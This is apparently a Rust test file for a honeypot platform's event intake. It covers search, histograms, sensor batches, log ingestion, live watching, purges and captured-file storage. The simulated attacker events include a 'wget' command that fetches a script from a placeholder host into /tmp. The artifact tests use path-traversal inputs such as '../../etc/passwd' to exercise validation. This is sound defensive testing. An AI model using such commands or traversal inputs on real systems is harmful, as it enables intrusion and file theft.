//! Events come in, are found, counted, told and purged.

use std::{sync::Arc, time::Duration};

use aegis_auth::{OpCtx, Role};
use aegis_error::Code;
use aegis_proto::deception::v1::{
    ArtifactHeader, Event, HandInRequest, IngestLinesRequest, PutArtifactRequest, ingest_lines_request,
    intake_service_client::IntakeServiceClient, intake_service_server::IntakeServiceServer, put_artifact_request,
};
use aegis_rpc::RpcService;
use aegis_testkit::ctx;
use chrono::{DateTime, TimeDelta, Utc};
use futures::{StreamExt, stream};
use tokio::sync::mpsc;
use tokio_stream::wrappers::ReceiverStream;
use tonic::body::Body;
use tower::ServiceExt;
use uuid::Uuid;

use super::{admin, app, app_with, audited, stores};
use crate::{
    Config,
    app::{
        App,
        intake::{Part, sound},
        logs::Filter,
        watch::Told,
    },
    domain::event::{Raw, RawFields},
    rpc::Rpc,
    store,
};

pub(crate) fn sensor() -> OpCtx {
    ctx(Role::Sensor, "sensor")
}

/// A client whose calls come from `ctx`.
pub(crate) fn client(app: &Arc<App>, ctx: OpCtx) -> IntakeServiceClient<RpcService> {
    let server = IntakeServiceServer::new(Rpc::new(Arc::clone(app)));
    IntakeServiceClient::new(aegis_rpc::local(server.map_request(move |mut request: http::Request<Body>| {
        request.extensions_mut().insert(ctx.clone());
        request
    })))
}

fn start() -> DateTime<Utc> {
    DateTime::from_timestamp(1_790_000_000, 0).unwrap()
}

/// The `n`th of many: one a second, of a hundred attackers.
fn event(n: i64) -> Raw {
    let at = start() + TimeDelta::seconds(n);
    let (event_type, fields) = match n % 4 {
        0 => ("connect", vec![("dst_port", "22".to_owned())]),
        1 => ("auth_fail", vec![("username", "root".to_owned()), ("password", format!("pass{}", n % 1_000))]),
        2 => ("command", vec![("command", format!("wget http://192.0.2.1/x{n}.sh -O /tmp/A"))]),
        _ => ("disconnect", vec![("duration_ms", (n % 977).to_string())]),
    };
    Raw {
        id: Some(Uuid::now_v7()),
        at: Some(at),
        decky: format!("web-{:02}", n % 10),
        service: if n % 2 == 0 { "ssh" } else { "telnet" }.into(),
        event_type: event_type.into(),
        attacker_ip: format!("198.51.100.{}", n % 100),
        attacker_port: 40_000,
        session_id: format!("session-{}", n / 4),
        msg: format!("Event Number {n} of many"),
        fields: RawFields::Pairs(fields.into_iter().map(|(key, value)| (key.to_owned(), value)).collect()),
    }
}

pub(super) async fn fill(app: &App, count: i64) {
    for first in (0..count).step_by(5_000) {
        let events = sound((first..count.min(first + 5_000)).map(event).collect(), |_| Vec::new(), app.sigma.now())
            .await
            .unwrap();
        let all = events.len();
        assert_eq!(app.intake.store(events, None).await.unwrap().new, all);
    }
}

pub(super) fn filter(search: &str) -> Filter {
    Filter::new(search, None, None).unwrap()
}

pub(super) async fn found(app: &App, filter: &Filter, size: i32, skip: i32) -> (Vec<i64>, i64) {
    let page = app.list_logs(&admin(), filter, size, "", skip).await.unwrap();
    (page.logs.iter().map(|log| log.id).collect(), page.total)
}

#[tokio::test]
async fn events_are_found_in_memory_and_in_stored_runs() {
    for test in stores().await {
        let (app, _folder) = app(&test.db);
        // Two runs, and what is in memory.
        let count = 140_000;
        fill(&app, count).await;
        for again in [false, true] {
            let app = if again { super::app(&test.db).0 } else { Arc::clone(&app) };
            let (ids, total) = found(&app, &Filter::default(), 3, 0).await;
            assert_eq!((ids, total), (vec![count, count - 1, count - 2], count), "{}", test.name);
            assert_eq!(found(&app, &Filter::default(), 1, 139_999).await.0, [1], "{}", test.name);

            // Every hundredth, from the 8th on; the id is one more.
            let (ids, total) = found(&app, &filter("attacker:198.51.100.7"), 2, 1_398).await;
            assert_eq!((ids, total), (vec![108, 8], 1_400), "{}", test.name);
            let (ids, total) = found(&app, &filter("service:ssh"), 1, 0).await;
            assert_eq!((ids, total), (vec![count - 1], 10_000), "{}: counted so far", test.name);
            let (ids, total) = found(&app, &filter("username:root password:pass1 decky:web-01"), 1_000, 0).await;
            assert_eq!((ids.len(), ids[0], total), (140, 139_002, 140), "{}", test.name);
            let (ids, total) = found(&app, &filter("X77778.sh event:command"), 10, 0).await;
            assert_eq!((ids, total), (vec![77_779], 1), "{}", test.name);
            let (ids, total) = found(&app, &filter("7777"), 100, 0).await;
            // As a number of an event, 7777 and 77770–77779 and 17777 …; in fields besides.
            assert!(
                ids.contains(&7_778) && ids.contains(&77_771) && total == i64::try_from(ids.len()).unwrap(),
                "{ids:?}"
            );
            let (ids, total) = found(&app, &filter("\"number 99 of\""), 10, 0).await;
            assert_eq!((ids, total), (vec![100], 1), "{}", test.name);
            assert_eq!(found(&app, &filter("session-5000"), 10, 0).await.0, [20_004, 20_003, 20_002, 20_001]);
            assert_eq!(found(&app, &filter("session:session-5000 event:connect"), 10, 0).await.0, [20_001]);
            for nothing in ["attacker:198.51.100.100", "absent", "session-500x", "username:roo"] {
                assert_eq!(found(&app, &filter(nothing), 10, 0).await, (vec![], 0), "{}: {nothing}", test.name);
            }

            let during = |from: i64, to: i64, search: &str| {
                let at = |n| Some(start() + TimeDelta::seconds(n));
                Filter::new(search, at(from), at(to)).unwrap()
            };
            let (ids, total) = found(&app, &during(70_001, 70_100, ""), 2, 98).await;
            assert_eq!((ids, total), (vec![70_003, 70_002], 100), "{}", test.name);
            let (ids, total) = found(&app, &during(0, 100_000, ""), 1, 0).await;
            assert_eq!((ids, total), (vec![100_001], 100_001), "{}", test.name);
            let (ids, total) = found(&app, &during(65_000, 66_000, "attacker:198.51.100.7"), 1, 0).await;
            assert_eq!((ids, total), (vec![65_908], 10), "{}", test.name);

            // Page after page is everything, once.
            let (filter, mut token, mut all) = (filter("attacker:198.51.100.3"), String::new(), Vec::new());
            loop {
                let page = app.list_logs(&admin(), &filter, 333, &token, 0).await.unwrap();
                assert_eq!(page.total, 1_400);
                all.extend(page.logs.iter().map(|log| log.id));
                token = page.next_page_token;
                if token.is_empty() {
                    break;
                }
            }
            assert_eq!(all, (0..1_400).rev().map(|n| n * 100 + 4).collect::<Vec<_>>(), "{}", test.name);
        }
        let stored = store::runs::after(&test.db, -1).await.unwrap();
        assert_eq!(
            stored.iter().map(|run| (run.first_id, run.last_id)).collect::<Vec<_>>(),
            [(1, 65_536), (65_537, 131_072)]
        );
        test.close().await;
    }
}

#[tokio::test]
async fn histograms_have_no_gaps_and_count_everything() {
    for test in stores().await {
        let (app, _folder) = app(&test.db);
        assert_eq!(app.log_histogram(&admin(), &Filter::default(), 0).await.unwrap(), []);
        fill(&app, 70_000).await;
        // One that is much later.
        let late = sound(vec![event(100_000)], |_| Vec::new(), app.sigma.now()).await.unwrap();
        app.intake.store(late, None).await.unwrap();
        for search in ["", "event", "number service:ssh", "attacker:198.51.100.7", "\"event number\""] {
            let of = filter(search);
            let buckets = app.log_histogram(&admin(), &of, 7).await.unwrap();
            let step = TimeDelta::minutes(7);
            assert!(buckets.windows(2).all(|pair| pair[1].start - pair[0].start == step), "{}: {search}", test.name);
            let expected = |bucket: DateTime<Utc>| {
                let holds = |n: &i64| {
                    let at = start() + TimeDelta::seconds(*n);
                    let found = match search {
                        "number service:ssh" => n % 2 == 0,
                        "attacker:198.51.100.7" => n % 100 == 7,
                        _ => true,
                    };
                    found && at >= bucket && at < bucket + step
                };
                (0..70_000).chain([100_000]).filter(holds).count()
            };
            // Phrases are looked at one by one up to a limit; words alone are exact.
            for bucket in buckets.iter().step_by(if search.starts_with('"') { 1_000 } else { 17 }) {
                assert_eq!(usize::try_from(bucket.count).unwrap(), expected(bucket.start), "{}: {search}", test.name);
            }
            let sum: i64 = buckets.iter().map(|bucket| bucket.count).sum();
            let all = match search {
                "number service:ssh" => 35_001,
                "attacker:198.51.100.7" => 700,
                _ => 70_001,
            };
            assert_eq!(sum, all, "{}: {search}", test.name);
        }
        // Inside of the minutes at both ends.
        let (from, to) = (start() + TimeDelta::seconds(50), start() + TimeDelta::seconds(269));
        let part = Filter::new("", Some(from), Some(to)).unwrap();
        let buckets = app.log_histogram(&admin(), &part, 1).await.unwrap();
        assert_eq!(buckets.iter().map(|bucket| bucket.count).sum::<i64>(), 220, "{}", test.name);
        let empty = Filter::new("", Some(start() - TimeDelta::days(2)), Some(start() - TimeDelta::days(1))).unwrap();
        let buckets = app.log_histogram(&admin(), &empty, 60).await.unwrap();
        assert_eq!((buckets.len(), buckets.iter().map(|bucket| bucket.count).sum::<i64>()), (25, 0), "{}", test.name);
        let wide = Filter::new("", Some(start() - TimeDelta::days(2_000)), None).unwrap();
        let failure = aegis_error::Failure::from(app.log_histogram(&admin(), &wide, 1).await.unwrap_err());
        assert_eq!((failure.code(), failure.fields()[0].field.as_str()), (Code::Validation, "interval_minutes"));
        let failure = aegis_error::Failure::from(app.log_histogram(&admin(), &wide, -1).await.unwrap_err());
        assert_eq!(failure.code(), Code::Validation);
        test.close().await;
    }
}

pub(crate) fn wire(n: i64) -> Event {
    let raw = event(n);
    Event {
        id: raw.id.unwrap().as_bytes().to_vec(),
        timestamp: Some(crate::rpc::timestamp(raw.at.unwrap())),
        decky: raw.decky,
        service: raw.service,
        event_type: raw.event_type,
        attacker_ip: raw.attacker_ip,
        attacker_port: raw.attacker_port,
        session_id: raw.session_id,
        msg: raw.msg,
        fields_json: format!(r#"{{"n":"{n}"}}"#),
    }
}

#[tokio::test]
async fn what_is_acknowledged_is_stored_once() {
    for test in stores().await {
        let (app, _folder) = app(&test.db);
        let id = Uuid::now_v7();
        let batch = |first: u64, count: i64| HandInRequest {
            sensor_id: id.to_string(),
            first_sequence: first,
            events: (0..count).map(|n| wire(i64::try_from(first).unwrap() + n)).collect(),
        };
        let hand_in = async |batches: Vec<HandInRequest>| {
            let answers = client(&app, sensor()).hand_in(stream::iter(batches)).await.unwrap().into_inner();
            answers
                .map(|answer| answer.map(|answer| answer.acknowledged).map_err(|status| status.code()))
                .collect::<Vec<_>>()
                .await
        };
        assert_eq!(hand_in(vec![batch(1, 0)]).await, [Ok(0)], "{}", test.name);
        let first = batch(1, 100);
        assert_eq!(
            hand_in(vec![first.clone(), batch(101, 2_000), batch(2_101, 1)]).await,
            [Ok(100), Ok(2_100), Ok(2_101)]
        );
        // Again, and overlapping, and from another stream.
        assert_eq!(
            hand_in(vec![first.clone(), batch(2_095, 20), batch(2_115, 0)]).await,
            [Ok(2_101), Ok(2_114), Ok(2_114)]
        );
        assert_eq!(app.stats().await.unwrap().total_logs, 2_114, "{}", test.name);
        // The same events by another sensor are the same events.
        let other = HandInRequest { sensor_id: Uuid::now_v7().to_string(), ..first };
        assert_eq!(hand_in(vec![other]).await, [Ok(100)], "{}", test.name);
        assert_eq!(app.stats().await.unwrap().total_logs, 2_114, "{}", test.name);
        // A batch that is wrong ends it, and what follows is not taken.
        let wrong = HandInRequest { sensor_id: "x".into(), ..batch(2_115, 1) };
        let answers = hand_in(vec![batch(2_115, 1), wrong, batch(2_116, 1)]).await;
        assert_eq!(answers, [Ok(2_115), Err(tonic::Code::InvalidArgument)], "{}", test.name);
        assert_eq!(hand_in(vec![batch(1, 0)]).await, [Ok(2_115)], "{}", test.name);
        // What comes after a batch that is not stored must not be either.
        let events = sound(vec![event(1)], |_| Vec::new(), app.sigma.now()).await.unwrap();
        let part = Part { sensor: id, first: 5_000, after: Some(4_999) };
        assert!(app.intake.store(events, Some(part)).await.is_err(), "{}", test.name);

        let page = app.list_logs(&admin(), &filter("n:2101"), 10, "", 0).await.unwrap();
        assert_eq!((page.logs.len(), page.logs[0].fields.json()), (1, r#"{"n":"2101"}"#), "{}", test.name);
        for role in [Role::Admin, Role::Viewer, Role::Service] {
            let refused = client(&app, ctx(role, "x")).hand_in(stream::iter(vec![batch(1, 0)])).await.unwrap_err();
            assert_eq!(refused.code(), tonic::Code::PermissionDenied, "{}", test.name);
        }
        let failure = aegis_error::Failure::from(app.list_logs(&sensor(), &filter(""), 10, "", 0).await.unwrap_err());
        assert_eq!(failure.code(), Code::Forbidden, "{}", test.name);
        test.close().await;
    }
}

#[tokio::test]
async fn many_sensors_at_once_lose_nothing() {
    for test in stores().await {
        let (app, _folder) = app(&test.db);
        let hand_in = async |n: u64| {
            let id = Uuid::now_v7().to_string();
            let (batches, requests) = mpsc::channel(4);
            let sends = tokio::spawn(async move {
                for first in (0..2_000_u64).step_by(100) {
                    let events = (0..100).map(|at| wire(i64::try_from(n * 2_000 + first + at).unwrap())).collect();
                    let batch = HandInRequest { sensor_id: id.clone(), first_sequence: first + 1, events };
                    batches.send(batch).await.unwrap();
                }
            });
            let answers = client(&app, sensor()).hand_in(ReceiverStream::new(requests)).await.unwrap().into_inner();
            let marks: Vec<u64> = answers.map(|answer| answer.unwrap().acknowledged).collect().await;
            sends.await.unwrap();
            assert_eq!(marks, (1..=20).map(|n| n * 100).collect::<Vec<_>>());
        };
        tokio::join!(hand_in(0), hand_in(1), hand_in(2), hand_in(3), hand_in(4));
        let (ids, total) = found(&app, &Filter::default(), 1_000, 9_000).await;
        assert_eq!((ids, total), ((1..=1_000).rev().collect(), 10_000), "{}", test.name);
        assert_eq!(found(&app, &filter("event:connect"), 1, 0).await.1, 2_500, "{}", test.name);
        test.close().await;
    }
}

async fn ingest(app: &Arc<App>, ctx: OpCtx, format: &str, body: &[u8]) -> Result<[u64; 3], tonic::Code> {
    let item = |item| IngestLinesRequest { item: Some(item) };
    let mut parts = vec![item(ingest_lines_request::Item::Format(format.into()))];
    parts.extend(body.chunks(1_000).map(|chunk| item(ingest_lines_request::Item::Chunk(chunk.to_vec()))));
    let answer = client(app, ctx).ingest_lines(stream::iter(parts)).await.map_err(|status| status.code())?.into_inner();
    assert!(answer.first_refused.len() <= 20);
    Ok([answer.accepted, answer.duplicate, answer.refused])
}

#[tokio::test]
async fn lines_of_other_honeypots_are_counted_and_dropped_the_second_time() {
    for test in stores().await {
        let (app, _folder) = app(&test.db);
        let line = |n: i64| {
            format!(
                r#"{{"eventid":"cowrie.login.failed","username":"u{n}","password":"p","src_ip":"198.51.100.9","session":"aa","sensor":"Trap 1","timestamp":"2026-03-01T10:00:00.{n:06}Z"}}"#
            )
        };
        let body = (0..2_500).map(line).chain(["no json".to_owned(), String::new()]).collect::<Vec<_>>().join("\n");
        for (who, expected) in [(sensor(), [2_500, 0, 1]), (admin(), [0, 2_500, 1])] {
            assert_eq!(ingest(&app, who, "cowrie", body.as_bytes()).await, Ok(expected), "{}", test.name);
        }
        assert_eq!(found(&app, &filter("decky:trap-1 username:u2499"), 10, 0).await.1, 1, "{}", test.name);
        assert_eq!(ingest(&app, admin(), "apache", b"").await, Err(tonic::Code::InvalidArgument));
        assert_eq!(ingest(&app, ctx(Role::BlueLead, "b"), "cowrie", b"").await, Err(tonic::Code::PermissionDenied));
        let actions: Vec<String> = audited(&test.db).await.into_iter().map(|record| record.action).collect();
        assert_eq!(actions, ["ingest_lines", "ingest_lines", "access_denied"], "{}", test.name);
        test.close().await;
    }
}

#[tokio::test]
async fn syslog_comes_in_over_tcp() {
    use tokio::{io::AsyncWriteExt, net::TcpStream};
    for test in stores().await {
        let (app, _folder) = app(&test.db);
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        let server = tokio::spawn(crate::app::syslog::serve(Arc::clone(&app), listener, app.stop.clone()));
        let mut connection = TcpStream::connect(address).await.unwrap();
        let line =
            r#"<134>1 2026-03-01T10:00:00Z decky-03 ssh - auth_fail [a@1 src_ip="203.0.113.9" username="root"] no"#;
        connection.write_all(format!("{line}\nrubbish\n{} {line}x", line.len() + 1).as_bytes()).await.unwrap();
        // Both framings, with the connection open.
        while found(&app, &filter("username:root decky:decky-03"), 10, 0).await.1 < 2 {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        app.stop.cancel();
        server.await.unwrap();
        test.close().await;
    }
}

async fn next(stream: &mut (impl StreamExt<Item = Told> + Unpin)) -> Told {
    tokio::time::timeout(Duration::from_secs(20), stream.next()).await.expect("something is told").expect("it goes on")
}

async fn ids(stream: &mut (impl StreamExt<Item = Told> + Unpin), count: usize) -> Vec<i64> {
    let mut ids = Vec::new();
    while ids.len() < count {
        if let Told::Logs(logs) = next(stream).await {
            ids.extend(logs.iter().map(|log| log.id));
        }
    }
    ids
}

#[tokio::test]
async fn watchers_are_told_what_was_and_what_comes() {
    for test in stores().await {
        let (app, _folder) = app(&test.db);
        let live =
            tokio::spawn(crate::app::live::run(Arc::clone(&app.live), app.logs_committed.clone(), app.stop.clone()));
        let mut empty = app.watch_logs(&admin(), filter("event:connect"), Some(0)).await.unwrap();
        assert!(matches!(next(&mut empty).await, Told::Stats(_)), "{}", test.name);
        assert!(matches!(next(&mut empty).await, Told::Histogram(_)), "{}", test.name);
        assert!(matches!(next(&mut empty).await, Told::Logs(logs) if logs.is_empty()), "{}", test.name);
        drop(empty);
        fill(&app, 1_200).await;
        let mut all = app.watch_logs(&admin(), Filter::default(), None).await.unwrap();
        assert!(matches!(next(&mut all).await, Told::Stats(stats) if stats.total_logs == 1_200), "{}", test.name);
        assert!(matches!(next(&mut all).await, Told::Histogram(_)), "{}", test.name);
        assert_eq!(ids(&mut all, 50).await, (1_151..=1_200).collect::<Vec<_>>(), "{}", test.name);
        let mut resumed = app.watch_logs(&admin(), Filter::default(), Some(100)).await.unwrap();
        assert_eq!(ids(&mut resumed, 1_100).await, (101..=1_200).collect::<Vec<_>>(), "{}", test.name);
        let mut some = app.watch_logs(&admin(), filter("attacker:198.51.100.1 event"), Some(0)).await.unwrap();
        assert_eq!(ids(&mut some, 12).await, (0..12).map(|n| n * 100 + 2).collect::<Vec<_>>(), "{}", test.name);

        let events = sound((1_200..1_302).map(event).collect(), |_| Vec::new(), app.sigma.now()).await.unwrap();
        app.intake.store(events, None).await.unwrap();
        assert_eq!(ids(&mut all, 102).await, (1_201..=1_302).collect::<Vec<_>>(), "{}", test.name);
        assert_eq!(ids(&mut resumed, 102).await, (1_201..=1_302).collect::<Vec<_>>(), "{}", test.name);
        assert_eq!(ids(&mut some, 2).await, [1_202, 1_302], "{}", test.name);

        // What another process stores is told too.
        let (other, _folder) = super::app(&test.db);
        fill(&other, 3).await;
        assert_eq!(ids(&mut all, 3).await, [1_303, 1_304, 1_305], "{}", test.name);

        // Who does not read is let go, and is told so; nobody waits for it.
        for _ in 0..40 {
            fill(&other, 5_000).await;
            app.live.catch_up().await.unwrap();
        }
        let mut last = None;
        while let Some(told) = tokio::time::timeout(Duration::from_secs(20), all.next()).await.unwrap() {
            last = Some(told);
        }
        assert!(matches!(last, Some(Told::Dropped(_))), "{}", test.name);
        app.stop.cancel();
        live.await.unwrap();
        test.close().await;
    }
}

#[tokio::test]
async fn a_purge_takes_all_and_ids_go_on() {
    for test in stores().await {
        let (app, _folder) = app_with(&test.db, Config { developer: true, ..Config::default() });
        fill(&app, 66_000).await;
        assert_eq!(found(&app, &filter("event:connect"), 1, 0).await.1, 10_000, "{}", test.name);
        let (elsewhere, _other) = super::app(&test.db);
        assert_eq!(found(&elsewhere, &filter("event:connect"), 1, 0).await.1, 10_000, "{}", test.name);
        let refused = aegis_error::Failure::from(elsewhere.purge_logs(&admin()).await.unwrap_err());
        assert_eq!(refused.code(), Code::Forbidden, "{}", test.name);
        let refused = aegis_error::Failure::from(app.purge_logs(&ctx(Role::RedLead, "r")).await.unwrap_err());
        assert_eq!(refused.code(), Code::Forbidden, "{}", test.name);
        let purged = app.purge_logs(&admin()).await.unwrap();
        assert_eq!((purged.logs, purged.bounties), (66_000, 0), "{}", test.name);
        for app in [&app, &elsewhere] {
            assert_eq!(found(app, &Filter::default(), 1, 0).await, (vec![], 0), "{}", test.name);
            assert_eq!(found(app, &filter("event:connect"), 1, 0).await, (vec![], 0), "{}", test.name);
            assert_eq!(app.log_histogram(&admin(), &Filter::default(), 0).await.unwrap(), [], "{}", test.name);
        }
        fill(&elsewhere, 8).await;
        for app in [&app, &elsewhere] {
            assert_eq!(found(app, &Filter::default(), 10, 6).await, (vec![66_002, 66_001], 8), "{}", test.name);
            assert_eq!(found(app, &filter("event:connect"), 10, 0).await, (vec![66_005, 66_001], 2), "{}", test.name);
        }
        test.close().await;
    }
}

#[tokio::test]
async fn captured_files_are_kept_once_and_only_administrators_read_them() {
    for test in stores().await {
        let (app, _folder) = app(&test.db);
        let bytes = b"#!/bin/sh\necho owned\n".repeat(20_000);
        let sha256 = hex::encode(ring::digest::digest(&ring::digest::SHA256, &bytes));
        let header = ArtifactHeader {
            kind: "file".into(),
            decky: "web-01".into(),
            service: "ssh".into(),
            attacker_ip: "198.51.100.9".into(),
            session_id: "s-1".into(),
            captured_at: Some(crate::rpc::timestamp(start())),
            name: "../x y.sh".into(),
            sha256: sha256.clone(),
            size: bytes.len() as u64,
        };
        let put = async |ctx: OpCtx, header: ArtifactHeader, bytes: &[u8]| {
            let item = |item| PutArtifactRequest { item: Some(item) };
            let mut parts = vec![item(put_artifact_request::Item::Header(header))];
            parts.extend(bytes.chunks(50_000).map(|chunk| item(put_artifact_request::Item::Chunk(chunk.to_vec()))));
            let answer = client(&app, ctx).put_artifact(stream::iter(parts)).await;
            answer.map(|answer| answer.into_inner().stored_as).map_err(|status| status.code())
        };
        let stored_as = format!("2026-09-21T14:13:20Z_{}_x_y.sh", &sha256[..12]);
        for _ in 0..2 {
            assert_eq!(put(sensor(), header.clone(), &bytes).await, Ok(stored_as.clone()), "{}", test.name);
        }
        let recording = ArtifactHeader { kind: "recording".into(), name: "s-1.cast".into(), ..header.clone() };
        put(sensor(), recording, &bytes).await.unwrap();
        let (artifact, chunks) = app.read_artifact(&admin(), "web-01", &stored_as).await.unwrap();
        let read: Vec<u8> = chunks.map(|chunk| chunk.unwrap().to_vec()).collect::<Vec<_>>().await.concat();
        assert_eq!((artifact.sha256.as_str(), read), (sha256.as_str(), bytes.clone()), "{}", test.name);
        assert!(app.recording("s-1").await.unwrap().is_some() && app.recording("s-2").await.unwrap().is_none());
        let recorded = store::artifacts::recorded(&test.db, &["s-1".into(), "s-2".into()]).await.unwrap();
        assert_eq!(recorded.into_iter().collect::<Vec<_>>(), ["s-1"], "{}", test.name);

        let wrong = ArtifactHeader { decky: "web-02".into(), ..header.clone() };
        for (header, bytes) in [
            (ArtifactHeader { sha256: "0".repeat(64), ..wrong.clone() }, &bytes[..]),
            (wrong.clone(), &bytes[1..]),
            (ArtifactHeader { size: 10, ..wrong.clone() }, &bytes[..]),
            (ArtifactHeader { size: u64::MAX, ..wrong.clone() }, &bytes[..]),
            (ArtifactHeader { decky: "../etc".into(), ..header.clone() }, &bytes[..]),
            (ArtifactHeader { kind: "else".into(), ..wrong.clone() }, &bytes[..]),
        ] {
            assert_eq!(put(sensor(), header, bytes).await, Err(tonic::Code::InvalidArgument), "{}", test.name);
        }
        assert_eq!(put(admin(), header, &bytes).await, Err(tonic::Code::PermissionDenied), "{}", test.name);
        for (ctx, decky, name, code) in [
            (ctx(Role::BlueLead, "b"), "web-01", stored_as.as_str(), Code::Forbidden),
            (admin(), "web-02", stored_as.as_str(), Code::NotFound),
            (admin(), "..", stored_as.as_str(), Code::Validation),
            (admin(), "web-01", "../../etc/passwd", Code::Validation),
        ] {
            let failure = app.read_artifact(&ctx, decky, name).await.map(|_| ()).unwrap_err();
            assert_eq!(aegis_error::Failure::from(failure).code(), code, "{}: {name}", test.name);
        }
        test.close().await;
    }
}
